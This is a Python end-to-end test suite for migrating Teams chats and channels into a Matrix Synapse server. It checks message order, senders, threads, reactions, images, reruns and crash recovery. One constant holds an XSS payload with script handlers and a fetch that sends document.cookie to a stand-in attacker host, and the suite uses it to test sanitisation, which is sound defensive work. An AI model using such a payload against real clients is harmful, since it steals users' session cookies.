"""Teams chats and channels from the sandbox into a real Synapse through the whole engine: every message arrives
once, from its sender's ghost, at its Teams time, threads and replies linked, reactions attached, images in the
media repository; a rerun sends nothing; a run killed mid-room and rerun leaves no duplicate and no gap; markup
meant to attack a client arrives harmless."""

from __future__ import annotations

import asyncio
import itertools
import random
import re
import urllib.error
from collections import Counter, defaultdict

import httpx
import pytest

from connectors.matrix import MatrixSink
from mappings.chat import SOURCE_KEY, ghost_id, room_key
from migrator.config import load_config
from migrator.job import Job, Selection
from migrator.model import Container
from migrator.sandbox.api_teams import department_chats, department_team
from migrator.sandbox.app import Sandbox
from migrator.sandbox.tenant import Tenant
from migrator.wiring import build_sink, chat_options
from tests.graph.configs import sandbox_source
from tests.helpers import CrashAfter, is_crash

XSS = ('<p>Zie <a href="javascript:alert(document.cookie)">dit</a> en <img src="x" onerror="alert(1)">'
       '<script>fetch("https://evil.example/?c=" + document.cookie)</script><b onmouseover="alert(2)">vet</b></p>')
_prefixes = itertools.count()


@pytest.fixture
def tenant_sandbox(tls_files):
    with Sandbox(Tenant(seed=9, users=3), tls_files) as running:
        yield running


def members_of(sandbox) -> list[dict]:
    return [u for u in sandbox.tenant.users if u["department"] == sandbox.tenant.users[0]["department"]]


def chat_config(tmp_path, sandbox, server, prefix: str, users: list[dict] | None = None, only: dict | None = None, call_retries: int = 5):
    """The chat target for `server`, moving the chats and channels of `users` (or of `only`; by default the
    department's)."""
    users = users or ([only] if only else members_of(sandbox))
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "as-token").write_text(server.registration.as_token)
    (tmp_path / "users.txt").write_text("".join(u["userPrincipalName"] + "\n" for u in users))
    source = re.sub(r'department = ".*"', 'users_file = "users.txt"', sandbox_source(tmp_path, sandbox))
    (tmp_path / "migrator.toml").write_text(f"""
{source}
[workloads]
enabled = ["chat"]

[targets.chat]
kind = "matrix"
url = "{server.url}"
server_name = "{server.server_name}"
as_token = {{ file = "as-token" }}
room_prefix = "{prefix}"

[identity]
matrix_id = "@{{local}}:{server.server_name}"

[run]
call_retries = {call_retries}
retry_base_seconds = 0.01
retry_max_seconds = 0.05
""")
    return load_config(tmp_path / "migrator.toml")


def register_real_users(server, members: list[dict]) -> None:
    for user in members:
        try:
            server.register_user(user["userPrincipalName"].split("@")[0])
        except urllib.error.HTTPError as exc:  # registered by an earlier test of this session
            assert exc.code == 400


def run_job(config, fault_hook=None) -> tuple[object, list, MatrixSink]:
    sink = build_sink("chat", config.targets["chat"], config)  # fresh: nothing known but what the room says
    job = Job(config, sinks={"chat": sink}, fault_hook=fault_hook)
    job.ledger.fault_hook = fault_hook
    try:
        result = asyncio.run(job.run("run", Selection.from_config(config)))
        problems = [(p.workload, p.state, p.last_error) for p in job.ledger.problems() if p.state != "skipped"]
    finally:
        job.close()
    return result, problems, sink


# -- what the sandbox holds ---------------------------------------------------------------------------------------


def conversations(sandbox, users: list[dict]) -> dict[str, tuple[Container, list[dict], dict[tuple[str, str], bytes]]]:
    """room key -> (container, every message and reply, hosted image bytes by (message id, content id)), for the
    chats of `users` and the channels of their team."""
    department = members_of(sandbox)[0]["department"]
    found = {}
    chats = department_chats(sandbox.tenant, department)
    for chat_id, state in chats["chats"].items():
        if not any(chat_id in chats["by_user"][u["id"]] for u in users):
            continue
        container = Container(chat_id, chat_id, "chat", (), state.data.chat["chatType"])
        found[room_key(container)] = (container, list(state.thread.messages), {k: v.read_all() for k, v in state.thread.hosted.items()})
    team, threads = department_team(sandbox.tenant, department)
    for channel in team.channels:
        thread = threads[channel.channel["id"]]
        container = Container(f"{team.team['id']}/{channel.channel['id']}", "", "chat", (), "channel")
        messages = list(thread.messages) + [r for replies in thread.replies.values() for r in replies]
        found[room_key(container)] = (container, messages, {k: v.read_all() for k, v in thread.hosted.items()})
    return found


def movable(message: dict) -> bool:
    return not message.get("deletedDateTime") and message["messageType"] in ("message", "systemEventMessage")


# -- what the homeserver holds ------------------------------------------------------------------------------------


def room_events(server, alias: str) -> tuple[str, list[dict]]:
    """The room's id and its timeline, oldest first, read as the application service's bot."""
    headers = {"Authorization": f"Bearer {server.registration.as_token}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=30) as client:
        resolved = client.get(f"/_matrix/client/v3/directory/room/{alias.replace('#', '%23')}")
        assert resolved.status_code == 200, (alias, resolved.text)
        room_id = resolved.json()["room_id"]
        events, token = [], None
        while True:
            params = {"dir": "b", "limit": 1000, **({"from": token} if token else {})}
            page = client.get(f"/_matrix/client/v3/rooms/{room_id}/messages", params=params).json()
            events += page.get("chunk", [])
            token = page.get("end")
            if not page.get("chunk") or not token:
                break
    return room_id, list(reversed(events))


def download(server, mxc: str) -> bytes:
    server_name, media_id = mxc.removeprefix("mxc://").split("/", 1)
    headers = {"Authorization": f"Bearer {server.registration.as_token}"}
    response = httpx.get(f"{server.url}/_matrix/client/v1/media/download/{server_name}/{media_id}", headers=headers, timeout=30)
    assert response.status_code == 200, response.text
    return response.content


def check_rooms(server, sandbox, config, users: list[dict]) -> Counter:
    """Every movable message once, in order, with sender, time, links, reactions and images; returns counts."""
    counts: Counter = Counter()
    options = chat_options(config.targets["chat"])
    prefix = options.room_prefix
    bot = f"@m365-migrator:{server.server_name}"
    for key, (container, messages, hosted) in conversations(sandbox, users).items():
        _, timeline = room_events(server, f"#{prefix}{key}:{server.server_name}")
        marked = [e for e in timeline if isinstance(e["content"].get(SOURCE_KEY), dict)]
        keys = [e["content"][SOURCE_KEY]["key"] for e in marked]
        duplicates = [k for k, n in Counter(keys).items() if n > 1]
        assert not duplicates, (container.role, duplicates[:3])
        by_key = dict(zip(keys, marked))
        expected = {m["id"]: m for m in messages if movable(m)}
        assert {k for k in keys if "#" not in k} == set(expected), (container.role, "missing or extra messages")
        sent_order = [e["origin_server_ts"] for e in marked if e["type"] == "m.room.message"]
        assert sent_order == sorted(sent_order), "messages must enter the room oldest first"
        reactions = defaultdict(set)
        for event in marked:
            if event["type"] == "m.reaction":
                relation = event["content"]["m.relates_to"]
                reactions[relation["event_id"]].add((event["sender"], relation["key"]))
        for message_id, message in expected.items():
            event = by_key[message_id]
            sender = message.get("from") and message["from"].get("user")
            assert event["sender"] == (ghost_id(sender["id"], options) if message["messageType"] == "message" else bot)
            assert event["origin_server_ts"] == int(message["id"])  # sandbox ids are the Teams creation milliseconds
            relation = event["content"].get("m.relates_to") or {}
            root = message.get("replyToId")
            if container.role == "channel" and root and root in expected:
                assert relation.get("rel_type") == "m.thread" and relation["event_id"] == by_key[root]["event_id"]
                counts["threaded"] += 1
            quoted = next((a["id"] for a in message["attachments"] if a["contentType"] == "messageReference"), None)
            if quoted in expected:
                assert relation["m.in_reply_to"]["event_id"] == by_key[quoted]["event_id"]
                counts["replies"] += 1
            want = {(ghost_id(r["user"]["user"]["id"], options), r["reactionType"]) for r in message["reactions"]}
            got = reactions.get(event["event_id"], set())
            assert len(got) == len(want), (message_id, got, want)
            counts["reactions"] += len(got)
            images = [(cid, data) for (mid, cid), data in hosted.items() if mid == message_id]
            image_events = [e for e in marked if e["content"].get("msgtype") == "m.image"
                            and e["content"][SOURCE_KEY]["key"].split("#")[0] == message_id]
            assert len(image_events) == len(images)
            for (_, data), image_event in zip(images, image_events):
                assert download(server, image_event["content"]["url"]) == data
                assert image_event["origin_server_ts"] == int(message["id"])
                counts["images"] += 1
            counts["messages"] += 1
        counts["rooms"] += 1
    return counts


def test_teams_history_arrives_once_with_senders_times_threads_reactions_and_images(tmp_path, tenant_sandbox, synapse):
    members = members_of(tenant_sandbox)[:2]  # two of the three: their shared chats must land once
    register_real_users(synapse, members)
    chats = department_chats(tenant_sandbox.tenant, members[0]["department"])
    shared = [chats["chats"][c] for c in set(chats["by_user"][members[0]["id"]]) & set(chats["by_user"][members[1]["id"]])]
    chat = next(c for c in shared if c.data.chat["chatType"] == "oneOnOne")
    poster = members[0]
    attack = chat.post(random.Random(4), poster, html=XSS)
    prefix = f"teams_e2e{next(_prefixes)}_"
    config = chat_config(tmp_path, tenant_sandbox, synapse, prefix, members)

    first, problems, sink = run_job(config)
    assert problems == [] and first.exit_code == 0, problems[:3]
    assert first.verify.outcomes["mismatch"] == 0 and first.verify.outcomes["verified"] > 0
    counts = check_rooms(synapse, tenant_sandbox, config, members)
    assert counts["rooms"] >= 7 and counts["messages"] >= 300, counts
    assert first.copy.outcomes["healed"] >= 200  # the second member's copies of shared rooms, found there
    assert counts["threaded"] >= 50 and counts["replies"] >= 3 and counts["reactions"] >= 20 and counts["images"] >= 5, counts
    skipped = first.copy.outcomes["skipped"]
    assert skipped > 0  # soft-deleted messages, reported with their reason

    # The attack arrived as harmless markup, its text intact.
    container = Container(chat.data.chat["id"], "", "chat", (), chat.data.chat["chatType"])
    _, timeline = room_events(synapse, f"#{prefix}{room_key(container)}:{synapse.server_name}")
    [event] = [e for e in timeline if e["content"].get(SOURCE_KEY, {}).get("key") == attack["id"]]
    formatted = event["content"]["formatted_body"]
    assert "<script" not in formatted and "onerror" not in formatted and "javascript:" not in formatted
    assert "onmouseover" not in formatted and "<b>vet</b>" in formatted and event["content"]["body"] == "Zie dit en vet"

    # The real users were invited to the rooms of their chats.
    invited = httpx.get(f"{synapse.url}/_matrix/client/v3/rooms/{event['room_id']}/state/m.room.member/"
                        f"@{poster['userPrincipalName'].split('@')[0]}:{synapse.server_name}",
                        headers={"Authorization": f"Bearer {synapse.registration.as_token}"}).json()
    assert invited["membership"] == "invite"

    # A rerun that knows nothing (a new ledger, a new sink; the homeserver's transaction ids play no part) reads every
    # message of a member again, finds each in its room and sends nothing.
    forgetful = chat_config(tmp_path / "again", tenant_sandbox, synapse, prefix, only=members[0])
    second, problems, sink = run_job(forgetful)
    assert problems == [] and sink.sent == 0, problems[:3]
    assert second.copy.outcomes["copied"] == 0 and second.copy.outcomes["healed"] >= 200
    assert check_rooms(synapse, tenant_sandbox, config, members) == counts

    # A later pass: an edit becomes an m.replace of the event already there, a new message is appended.
    edited = next(m for m in chat.thread.messages if m["messageType"] == "message" and not m["deletedDateTime"]
                  and m["id"] != attack["id"] and m["body"]["contentType"] == "html")
    chat.edit(edited["id"], "<p>herzien: <em>nieuwe</em> tekst</p>")
    posted = chat.post(random.Random(5), poster)
    third, problems, sink = run_job(config)
    assert problems == [] and third.copy.outcomes["copied"] == 2, third.copy.outcomes
    _, timeline = room_events(synapse, f"#{prefix}{room_key(container)}:{synapse.server_name}")
    marks = [(e, e["content"][SOURCE_KEY]) for e in timeline if isinstance(e["content"].get(SOURCE_KEY), dict)]
    original = next(e for e, mark in marks if mark["key"] == edited["id"] and not mark.get("edit"))
    [replacement] = [e for e, mark in marks if mark["key"] == edited["id"] and mark.get("edit")]
    assert replacement["content"]["m.relates_to"] == {"rel_type": "m.replace", "event_id": original["event_id"]}
    assert replacement["content"]["m.new_content"]["body"] == "herzien: nieuwe tekst"
    assert [mark["key"] for _, mark in marks][-2:] == [edited["id"], posted["id"]]


def test_a_run_killed_mid_room_then_rerun_leaves_no_duplicate_and_no_gap(tmp_path, tenant_sandbox, synapse):
    member = members_of(tenant_sandbox)[0]  # one user's chats and channels: enough rooms to be killed in
    register_real_users(synapse, [member])
    prefix = f"teams_e2e{next(_prefixes)}_"
    config = chat_config(tmp_path, tenant_sandbox, synapse, prefix, [member])
    # Copies are recorded per claimed batch, so a run makes few commits: the 10th falls within this one.
    for crash in (CrashAfter(25, "after_put"), CrashAfter(40, "before_put"), CrashAfter(10, "commit")):
        try:
            run_job(config, fault_hook=crash)
        except BaseException as exc:  # noqa: BLE001 - the simulated kill is a BaseException
            assert is_crash(exc), exc
        assert crash.fired
    final, problems, _ = run_job(config)
    assert problems == [] and final.exit_code == 0, problems[:3]
    assert final.copy.outcomes["healed"] >= 1  # the item sent before the kill was found in the room, not sent again
    counts = check_rooms(synapse, tenant_sandbox, config, [member])
    assert counts["messages"] >= 250, counts
